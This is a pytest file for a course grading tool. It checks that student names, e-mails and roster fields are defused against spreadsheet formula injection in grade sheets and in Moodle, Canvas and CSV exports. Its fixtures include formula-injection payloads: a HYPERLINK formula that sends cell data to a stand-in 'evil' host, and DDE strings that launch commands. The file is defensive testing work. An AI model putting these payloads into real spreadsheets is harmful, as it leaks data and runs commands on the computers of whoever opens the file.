"""No text a submission chose (its name, a Moodle folder's name, a roster's or Classroom
50's fields) reaches a spreadsheet as a formula: grades.csv and every grade-book export
neutralise it, numbers stay numbers, and grades.csv reads back as it was."""

import csv

import pytest

from grader.regrade.gradebook import export_grades
from grader.regrade.sheet import GradeSheet
from grader.regrade.spreadsheet import neutral, restored

FORMULAS = ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|x",
            "-2+3", "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1")
SAFE = ("Chen Wei", "-10", "+3.5", "-1.5e3", "-", "", "0856001", "Participant 5501")


def runs(cell):
    """Whether a spreadsheet would take the cell for a formula."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and cell.lstrip("\t\r\n")[:1] in \
        ("=", "+", "-", "@") and not cell.lstrip("+-").replace(".", "", 1).replace(
            "e", "", 1).lstrip("+-").isdigit()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back_whole(text):
    assert runs(text) and not runs(neutral(text))
    assert neutral(text).startswith("'")
    assert restored(neutral(text)) == text.replace("\r", "\n")


def test_a_carriage_return_never_starts_a_row_of_its_own(tmp_path):
    sheet = GradeSheet(tmp_path / "grades.csv")
    sheet.add({"submission": "a", "name": "x\r=1+1,forged,row", "status": "ok"})
    assert list(GradeSheet(tmp_path / "grades.csv").rows) == ["a"]
    assert GradeSheet(tmp_path / "grades.csv").rows["a"]["name"] == "x\n=1+1,forged,row"


@pytest.mark.parametrize("text", SAFE + ("'quoted", "''", "'=x"))
def test_numbers_and_plain_text_are_left_as_they_are(text):
    assert restored(neutral(text)) == text
    if not text.startswith("'"):
        assert neutral(text) == text


def formula_sheet(folder):
    """A grade sheet whose names and e-mails are formulas."""
    sheet = GradeSheet(folder / "grades.csv")
    for number, formula in enumerate(FORMULAS, start=1):
        sheet.add({"submission": formula, "student_id": f"31255100{number}", "name": formula,
                   "email": formula, "participant": str(5500 + number), "status": "ok",
                   "total": 50, "max_score": 110, "public": 50, "hidden": 0, "bonus": 0,
                   "late": -10 if number == 1 else "", "reason": formula, "flags": ""})
    return sheet


def cells(path):
    with path.open(newline="", encoding="utf-8-sig") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_the_grade_sheet_holds_no_formula_and_reads_back_as_written(tmp_path):
    sheet = formula_sheet(tmp_path)
    written = cells(tmp_path / "grades.csv")
    assert not any(runs(cell) for cell in written)
    assert "-10" in written  # a number is still one
    again = GradeSheet(tmp_path / "grades.csv")
    kept = sorted(text.replace("\r", "\n") for text in FORMULAS)
    assert sorted(again.rows) == kept
    assert sorted(row["name"] for row in again.rows.values()) == kept
    for name, row in sheet.rows.items():
        read = again.rows[name.replace("\r", "\n")]
        assert {k: read[k] for k in row} == {k: str(v).replace("\r", "\n")
                                            for k, v in row.items()}


@pytest.mark.parametrize("fmt", ["moodle", "canvas", "csv"])
def test_no_grade_book_export_holds_a_formula(tmp_path, fmt):
    formula_sheet(tmp_path)
    path, _, _ = export_grades(tmp_path, fmt, modified="now")
    exported = cells(path)
    assert not any(runs(cell) for cell in exported)
    assert sum(cell.startswith("'") for cell in exported) >= len(FORMULAS)
    assert "50" in exported  # the grades are numbers still
    if fmt == "moodle":  # what Moodle matches rows by is untouched
        assert "Participant 5501" in exported


def test_classroom50_fields_are_neutralised_in_the_export(tmp_path):
    (tmp_path / "scores.csv").write_text(
        "username,first_name,last_name,email,section,score,max_score,datetime,"
        "submission_tag,submitted_by,review_url,late,override\n"
        "alice-gh,,,,,90,100,2026-12-01T10:00:00Z,submit/x,alice-gh,,false,false\n",
        encoding="utf-8")
    (tmp_path / "roster.csv").write_text(
        "username,id,name,email,participant\n"
        "alice-gh,312551001,\"=HYPERLINK(\"\"http://evil\"\")\",@evil.example,5501\n",
        encoding="utf-8")
    for fmt in ("moodle", "canvas", "csv"):
        path, _, _ = export_grades(tmp_path / "scores.csv", fmt, roster=tmp_path / "roster.csv",
                                   out=tmp_path / f"{fmt}.csv", modified="now")
        exported = cells(path)
        assert not any(runs(cell) for cell in exported), fmt
        assert "'=HYPERLINK(\"http://evil\")" in exported and "90" in exported
